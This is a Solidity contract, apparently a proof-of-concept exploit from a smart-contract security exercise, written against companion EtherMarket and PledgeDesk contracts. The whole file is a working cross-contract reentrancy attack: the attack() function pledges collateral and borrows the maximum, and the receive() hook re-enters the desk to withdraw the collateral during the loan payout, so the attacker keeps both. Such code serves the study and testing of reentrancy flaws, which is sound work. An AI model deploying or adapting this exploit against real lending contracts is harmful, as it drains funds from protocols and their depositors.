// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {EtherMarket} from "./EtherMarket.sol";
import {PledgeDesk} from "./PledgeDesk.sol";

/// @title Takes its collateral back from the desk while the market pays the loan out
contract Leaver {
    EtherMarket private immutable market;
    PledgeDesk private immutable desk;

    constructor(EtherMarket market_) {
        market = market_;
        desk = market_.desk();
    }

    function attack(uint256 amount) external {
        desk.collateral().approve(address(desk), type(uint256).max);
        desk.pledge(amount);
        market.borrow(market.borrowable(address(this)));
    }

    receive() external payable {
        desk.take(desk.pledged(address(this)));
    }
}
